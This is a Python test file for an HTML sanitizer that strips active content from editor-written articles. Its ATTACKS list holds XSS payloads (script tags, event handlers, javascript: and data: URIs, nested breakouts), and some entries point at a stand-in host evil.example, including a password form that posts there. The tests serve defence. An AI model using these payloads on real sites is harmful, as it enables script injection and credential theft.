"""Nothing an editor (or somebody in an editor's name) writes runs in a reader's browser."""

import uuid

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lianfang.articles.rules import clean, lines_of, pictures_in, with_addresses

KEY = uuid.UUID("5b0f2a58-7a3c-4a43-9d0c-0d6f6c0a4e11")
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">点我</a>',
    '<a href=" jAvAsCrIpT:alert(1)">点我</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">点我</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<p onclick=alert(1) style='background:url(javascript:1)'>字</p>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example><input name=pass></form>",
    "<object data=x.swf></object><embed src=x>",
    "<base href=https://evil.example/><link rel=import href=x><meta http-equiv=refresh>",
    f"<img alt='a><script>alert(1)</script>' title=x><img src='lf:{KEY}' alt='b><svg onload=x>'>",
    "<<script>script>alert(1)<</script>/script>",
    "<p><b onmouseover=alert(1)>字</b></p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div><div onclick=x></div></div><h1 id=x>标题</h1>",
]
FORBIDDEN = ("<script", "<svg", "<iframe", "<style", "<form", "<object", "<embed", "<base", "<math")


def runs(body):
    """Whether the browser's own parser, stood in for by ours, would see anything active."""
    from html.parser import HTMLParser  # noqa: PLC0415 -- only here

    found = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            allowed = {"href", "rel"} if tag == "a" else {"src", "alt"} if tag == "img" else set()
            found.extend(name for name, _ in attrs if name not in allowed)
            links = dict(attrs)
            to = links.get("href") or "https://"
            if tag == "a" and not to.startswith(("https://", "tel:")):
                found.append(to)
            if tag == "img" and not (links["src"] or "").startswith("lf:"):
                found.append(links["src"])
            if f"<{tag}" in FORBIDDEN:
                found.append(tag)

    Reader().feed(body)
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_that_runs(attack):
    assert runs(clean(attack)) == []
    assert runs(clean(f"<p>前{attack}后</p>")) == []


@given(st.text(alphabet="<>/'\"= abimgpscrltf:;&#x0", max_size=60))
def test_any_scrambled_markup_comes_out_harmless_and_stays_as_it_is(text):
    once = clean(text)

    assert runs(once) == []
    assert clean(once) == once


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("<p>一<b>二</b><i>三</i></p>", "<p>一<strong>二</strong><em>三</em></p>"),
        ("<div>一</div><div><br></div>", "<p>一</p>"),
        ("<h1>大</h1><h4>小</h4>", "<h2>大</h2><h3>小</h3>"),
        (
            '<p><a href="https://a.example/x">链</a></p>',
            '<p><a href="https://a.example/x" rel="noopener noreferrer">链</a></p>',
        ),
        (
            '<p><a href="tel:12345">打电话</a></p>',
            '<p><a href="tel:12345" rel="noopener noreferrer">打电话</a></p>',
        ),
        ('<p><img src="https://elsewhere.example/spy.gif">字</p>', "<p>字</p>"),
    ],
)
def test_the_stored_form_is_small(written, kept):
    assert clean(written) == kept


def test_a_picture_is_stored_by_its_key_and_shown_under_the_readers_address():
    stored = clean(f'<p><img src="/api/console/articles/{uuid.uuid4()}/files/{KEY}" alt="图"></p>')

    assert stored == f'<p><img src="lf:{KEY}" alt="图"></p>'
    assert pictures_in(stored) == [KEY]
    assert with_addresses(stored, "/f") == f'<p><img src="/f/{KEY}" loading="lazy" alt="图"></p>'


def test_lines_say_what_a_body_says():
    body = f'<h2>题</h2><ul><li>甲 &amp; 乙</li></ul><p>一<br>二<img src="lf:{KEY}" alt="图"></p>'

    assert lines_of(body) == ["题", "甲 & 乙", "一", "二［图：图］"]
